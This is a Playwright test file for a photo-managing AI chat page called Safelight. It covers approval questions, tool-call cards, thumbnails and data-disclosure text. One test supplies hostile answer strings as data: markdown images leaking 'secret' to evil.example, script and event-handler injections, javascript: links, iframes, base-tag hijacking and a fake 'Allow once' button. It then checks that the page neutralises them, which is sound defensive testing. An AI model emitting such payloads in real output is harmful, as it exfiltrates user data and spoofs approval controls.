"""What the page shows of a conversation: calls, questions, photos; and what a hostile answer cannot do there."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from tests.requirement import requirement
from tests.ui import stories
from tests.ui.acting import open_page, until
from tests.ui.conftest import Watched
from tests.ui.fake_service import TOKEN, FakeService


def focused(page: Page) -> str:
    return page.evaluate("document.activeElement.textContent || document.activeElement.id")


@requirement("page.cards")
def test_a_card_says_what_a_call_does(page: Page, service: FakeService) -> None:
    main = open_page(page, service)
    stories.whole(service)
    search = main.get_by_role("article", name="Search photos")
    for words in (
        "Only looks",
        "“coast”",
        "November 29, 2026",
        "newest first",
        "24 photos found",
        "2 photos are offline.",
    ):
        expect(search.get_by_text(words).first).to_be_visible()
    answer = search.get_by_role("region", name="Answer in full")
    expect(answer).to_have_count(0)
    search.get_by_text("Answer in full").click()
    expect(answer).to_contain_text('"file_name": "DSC_0433.NEF"')
    rating = main.get_by_role("article", name="Rate photos")
    for words in ("Changes photos", "the photos selected in Lightroom (3)", "★★★★★ (5)", "Allowed once", "Done"):
        expect(rating.get_by_text(words, exact=True)).to_be_visible()
    expect(rating.get_by_text("1 photo not changed: The photo's folder is offline.")).to_be_visible()
    expect(rating.get_by_role("button", name="Show DSC_0418.NEF larger")).to_be_visible()
    title = main.get_by_role("article", name="Change title and caption")
    for words in ("the photos found earlier in this chat (412)", "Not allowed: only the best three", "Not done"):
        expect(title.get_by_text(words, exact=True)).to_be_visible()
    show = main.get_by_role("article", name="Show photos in Lightroom")
    for words in ("Arranges, changes no photo", "3 single photos", "Did not work", "Lightroom is busy with an export."):
        expect(show.get_by_text(words, exact=True)).to_be_visible()


@requirement("page.photos")
def test_photos_are_shown_and_open_larger(page: Page, service: FakeService) -> None:
    main = open_page(page, service)
    stories.search(service)
    card = main.get_by_role("article", name="Search photos")
    card.scroll_into_view_if_needed()
    expect(card.locator(".thumbnail img")).to_have_count(12)
    expect(card.get_by_text("and 12 more")).to_be_visible()
    thumbs = [one for one in service.requests if "/photos/" in one.path]
    assert {one.query["size"][0] for one in thumbs} == {"256"}
    assert {one.token for one in thumbs} == {TOKEN}
    first = card.get_by_role("button", name="Show DSC_0410.NEF larger")
    first.focus()
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_role("img", name="DSC_0410.NEF")).to_be_visible()
    page.keyboard.press("ArrowRight")
    expect(dialog.get_by_role("img", name="DSC_0411.NEF")).to_be_visible()
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    expect(first).to_be_focused()


@requirement("page.approval")
def test_a_question_is_asked_and_answered_by_keyboard(page: Page, service: FakeService) -> None:
    main = open_page(page, service)
    stories.ask_rating(service)
    question = main.get_by_role("group", name=re.compile("May this be done"))
    expect(question).to_be_focused()
    expect(page.locator("[aria-live=assertive]")).to_contain_text(
        "May this be done: Rate photos? Changes photos. Photos: the photos selected in Lightroom (3). Stars: ★★★★★ (5)."
    )
    assert page.title() == "Question – Safelight"
    expect(question.get_by_role("listitem").filter(has_text="DSC_0412.NEF")).to_contain_text(
        "★★★★ (4) → after ★★★★★ (5)"
    )
    expect(question.get_by_role("listitem").filter(has_text="DSC_0419.NEF")).to_contain_text("stays as it is")
    for key in ("Enter", "Escape", "Space"):
        page.keyboard.press(key)
    assert service.asked("POST", "/approvals/c2") == [], "a question that only has the focus allows nothing"
    while focused(page) != "Allow in this chat":
        page.keyboard.press("Tab")
    page.keyboard.press("Escape")
    assert service.asked("POST", "/approvals/c2") == []
    page.keyboard.press("Enter")
    until(lambda: service.asked("POST", "/approvals/c2"))
    page.keyboard.press("Enter")
    service.event(
        "approval_resolved", call_id="c2", outcome="chat", by="page", arguments={"set": "selection", "rating": 5}
    )
    service.event("tool_running", call_id="c2")
    expect(main.get_by_text("Allowed in this chat", exact=True)).to_be_visible()
    expect(question).to_have_count(0)
    expect(page.get_by_label("Your message")).to_be_focused()
    assert [one.body for one in service.asked("POST", "/approvals/c2")] == [{"decision": "chat"}], "one answer, once"


@requirement("page.approval")
@pytest.mark.parametrize(
    ("button", "decision", "outcome"),
    [
        ("Allow once", "once", "Allowed once"),
        ("Always allow", "always", "Always allowed"),
        ("Don't allow", "deny", "Not allowed"),
    ],
)
def test_each_answer(page: Page, service: FakeService, button: str, decision: str, outcome: str) -> None:
    main = open_page(page, service)
    stories.ask_rating(service)
    expect(main.get_by_text("“Always allow” means: Rate photos will run without asking")).to_be_visible()
    main.get_by_role("button", name=button).click()
    until(lambda: service.asked("POST", "/approvals/c2"))
    assert service.asked("POST", "/approvals/c2")[0].body == {"decision": decision}
    service.event("approval_resolved", call_id="c2", outcome=decision, by="page", arguments=None)
    expect(main.get_by_text(outcome, exact=True)).to_be_visible()


@requirement("page.approval")
def test_a_refusal_takes_a_note(page: Page, service: FakeService) -> None:
    main = open_page(page, service)
    stories.ask_rating(service)
    main.get_by_label("Say why (optional)").fill("only the best three")
    page.keyboard.press("Escape")
    page.keyboard.press("Enter")
    until(lambda: service.asked("POST", "/approvals/c2"))
    assert service.asked("POST", "/approvals/c2")[0].body == {"decision": "deny", "note": "only the best three"}
    service.event("approval_resolved", call_id="c2", outcome="deny", by="page", arguments=None)
    service.event("tool_skipped", call_id="c2", reason="not_allowed")
    expect(main.get_by_text("Not allowed: only the best three")).to_be_visible()


@requirement("page.approval")
def test_a_bulk_question_offers_no_always(page: Page, service: FakeService) -> None:
    main = open_page(page, service)
    stories.ask_rating(service, reason={"kind": "bulk", "photos": 412, "limit": 200})
    expect(main.get_by_text("It aims at 412 photos at once, more than your limit of 200.")).to_be_visible()
    expect(main.get_by_role("button", name="Allow", exact=False)).to_have_text(
        ["Allow once", "Allow in this chat", "Don't allow"]
    )


@requirement("page.accessible")
def test_a_question_leaves_a_writer_alone(page: Page, service: FakeService) -> None:
    main = open_page(page, service)
    box = page.get_by_label("Your message")
    box.fill("I was just going to")
    stories.ask_rating(service)
    expect(main.get_by_role("button", name="Allow once")).to_be_visible()
    expect(box).to_be_focused()
    note = main.get_by_label("Say why (optional)")
    note.fill("half a no")
    service.event("warning", message="something else happens")
    expect(main.get_by_text("something else happens")).to_be_visible()
    expect(note).to_be_focused()
    expect(note).to_have_value("half a no")


def test_a_question_that_was_answered_elsewhere_goes(watched: Watched, service: FakeService) -> None:
    page = watched.page
    main = open_page(page, service)
    stories.ask_rating(service)
    service.refused["/approvals/c2"] = 404
    main.get_by_role("button", name="Allow once").click()
    expect(main.get_by_text("This question is no longer open.")).to_be_visible()
    expect(main.get_by_role("button", name="Allow once")).to_have_count(0)
    service.event("approval_resolved", call_id="c2", outcome="deny", by="agent", arguments=None)
    expect(main.get_by_text("Not allowed (answered outside this page)")).to_be_visible()
    expect(main.get_by_text("This question is no longer open.")).to_have_count(0)


def test_an_answer_that_does_not_arrive_can_be_given_again(watched: Watched, service: FakeService) -> None:
    page = watched.page
    main = open_page(page, service)
    stories.ask_rating(service)
    service.refused["/approvals/c2"] = 500
    main.get_by_role("button", name="Allow once").click()
    expect(page.get_by_role("alert")).to_contain_text("Your answer did not arrive.")
    service.refused.clear()
    main.get_by_role("button", name="Allow once").click()
    until(lambda: len(service.asked("POST", "/approvals/c2")) == 2)
    expect(page.get_by_role("alert")).to_have_count(0)


@requirement("page.context")
def test_says_how_much_of_the_context_is_used(page: Page, service: FakeService) -> None:
    open_page(page, service)
    service.event("usage", prompt_tokens=3600, completion_tokens=240, cached_tokens=0, context_window=32768)
    expect(page.get_by_role("banner").get_by_text("12 % of the model's memory used")).to_be_visible()


@pytest.mark.parametrize(
    ("receiver", "words"),
    [
        (None, "This conversation stays on this computer."),
        ("OpenAI", "This conversation, and photos the model looks at, are sent to OpenAI."),
    ],
)
def test_says_who_receives_the_conversation(page: Page, service: FakeService, receiver: str | None, words: str) -> None:
    service.sends_to = receiver
    main = open_page(page, service)
    expect(main.get_by_text(words)).to_be_visible()


@requirement("page.safe-markdown")
@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret) <img src=https://evil.example/y> [go](https://evil.example/z)",
        "<script>window.hit = 1</script><img src=x onerror='window.hit = 1'><svg onload='window.hit = 1'>",
        "<style>*{display:none}</style><p style='position:fixed;inset:0'>x</p><form><button>Allow once</button></form>",
        "[click](javascript:window.hit=1) <iframe src='https://evil.example'></iframe><base href='https://evil.example'>",
    ],
)
def test_a_hostile_answer_does_nothing(page: Page, service: FakeService, text: str) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    main = open_page(page, service)
    service.event("assistant_turn", reasoning=text, text=text)
    service.event("warning", message=text)
    stories.ask_rating(service)
    service.event("tool_done", call_id="c2", ok=False, text=text, set_id=None, count=None, warnings=[text], images=0)
    expect(main.get_by_text("Did not work")).to_be_visible()
    assert page.evaluate("window.hit") is None
    assert all(url.startswith((service.url, "blob:", "data:")) for url in asked)
    assert main.get_by_role("button", name="Allow once").count() == 0
    assert main.locator("iframe, form, style, script, base").count() == 0
    assert main.locator("img:not([src^='blob:'])").count() == 0
    for link in main.get_by_role("link").all():
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert (link.text_content() or "").endswith("evil.example")


def test_the_policy_holds(watched: Watched, service: FakeService) -> None:
    """What the page does not do, nobody else can do on it either."""
    page = watched.page
    open_page(page, service)
    refused = page.evaluate(
        """() => {
          const outcome = (act) => { try { act(); return 'done'; } catch { return 'refused'; } };
          return [
            outcome(() => { document.body.innerHTML = '<p>x</p>'; }),
            outcome(() => trustedTypes.createPolicy('another', {})),
          ];
        }"""
    )
    assert refused == ["refused", "refused"]
